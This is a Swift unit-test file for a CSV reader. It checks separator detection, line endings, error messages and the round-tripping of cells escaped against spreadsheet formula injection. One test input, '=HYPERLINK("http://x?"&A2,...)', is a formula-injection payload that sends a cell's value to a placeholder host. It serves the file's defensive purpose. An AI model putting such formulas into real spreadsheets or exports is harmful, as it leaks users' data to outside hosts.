import FicheCSV
import XCTest

/// A file separated by `;` (Excel in Belgium, Fiche's exports) or `,` is read into the same rows,
/// the separator found in its header; a header or a row that mixes them is pointed out.
final class CSVSheetTests: XCTestCase {
    func testTheSeparatorIsTheHeadersSemicolonOrComma() throws {
        let semicolon = try CSVSheet.read("\u{FEFF}dossier_number;hours;note\r\nAC-000101;7,6;\"a,b\"\r\n")
        XCTAssertEqual(semicolon.separator, ";")
        XCTAssertEqual(semicolon.header?.fields, ["dossier_number", "hours", "note"])
        XCTAssertEqual(semicolon.rows.map(\.fields), [["AC-000101", "7,6", "a,b"]])
        let comma = try CSVSheet.read("dossier_number,hours,note\nAC-000101,\"7,6\",a;b\n")
        XCTAssertEqual(comma.separator, ",")
        XCTAssertEqual(comma.rows.map(\.fields), [["AC-000101", "7,6", "a;b"]])
        XCTAssertEqual(try CSVSheet.read("\"nom;prénom\",x\n1,2\n").separator, ",", "a separator inside quotes does not count")
        XCTAssertEqual(try CSVSheet.read("\n\r\nnumber;name\n").separator, ";", "blank lines before the header are skipped")
        XCTAssertEqual(try CSVSheet.read("number\n1\n").separator, ",", "one column: either reads it")
        XCTAssertEqual(try CSVSheet.read("").header?.fields, nil)
    }

    /// Excel for Mac ends lines with a CR alone; "Text (Tab delimited)" and a copy of cells
    /// separate fields with tabs: both read into the same rows.
    func testLinesEndedByACarriageReturnAloneAndTabSeparatedFilesAreRead() throws {
        let mac = try CSVSheet.read("dossier_number;hours\rAC-000101;7,6\r\rAC-000102;3\r")
        XCTAssertEqual(mac.separator, ";")
        XCTAssertEqual(mac.rows.map(\.fields), [["AC-000101", "7,6"], ["AC-000102", "3"]])
        XCTAssertEqual(mac.rows.map(\.line), [2, 4], "each CR counts a line, as the clerk sees them")
        let tabs = try CSVSheet.read("dossier_number\thours\tnote\r\nAC-000101\t7,6\t\"a;b, c\"\r\n")
        XCTAssertEqual(tabs.separator, "\t")
        XCTAssertEqual(tabs.rows.map(\.fields), [["AC-000101", "7,6", "a;b, c"]])
        XCTAssertEqual(tabs.shape(of: ["AC-000101;7,6"]), .otherSeparator(found: ";", expected: "\t"))
        XCTAssertEqual(try CSVSheet.read("a;b\tc\n").separator, ";", "a tab in a ; header is part of a name")
    }

    func testAHeaderWithBothSeparatorsIsRefused() {
        XCTAssertThrowsError(try CSVSheet.read("\n dossier_number;type,from\nAC-000101;sick,2026-12-01\n")) { error in
            XCTAssertEqual(error as? CSVTable.Malformed, CSVTable.Malformed(line: 2, reason: .mixedSeparators))
            XCTAssertEqual((error as? CSVTable.Malformed)?.description,
                           "line 2: the header has both ; and , between column names: use one separator")
        }
    }

    func testARowsShapeSaysWhyItDoesNotFitTheHeader() throws {
        let sheet = try CSVSheet.read("a;b;c\n1;2;3\n1,2,3\n1;2\n1;2;3;4\n")
        XCTAssertEqual(sheet.rows.map { sheet.shape(of: $0.fields) }, [
            .fits, .otherSeparator(found: ",", expected: ";"), .tooFew(fields: 2, columns: 3), .tooMany(fields: 4, columns: 3),
        ])
        XCTAssertEqual(sheet.columnNames, ["a", "b", "c"])
        XCTAssertEqual(try CSVSheet.read(" Dossier_Number ,TYPE\n").columnNames, ["dossier_number", "type"])
    }

    func testCellsWrittenSafeForASpreadsheetReadBackToTheirValue() throws {
        let values = ["=HYPERLINK(\"http://x?\"&A2,\"De Coster\")", "@Bram", "-C2", "-3", "18,5", "'quoted", "+32 2 123"]
        for separator in [",", ";"] as [Character] {
            let text = CSVTable.line(["a", "b", "c", "d", "e", "f", "g"], separator: separator) + "\r\n"
                + CSVTable.line(values, separator: separator) + "\r\n"
            let sheet = try CSVSheet.read(text)
            XCTAssertEqual(sheet.separator, separator.unicodeScalars.first)
            XCTAssertEqual(sheet.rows.map(\.fields), [values], text)
        }
    }
}
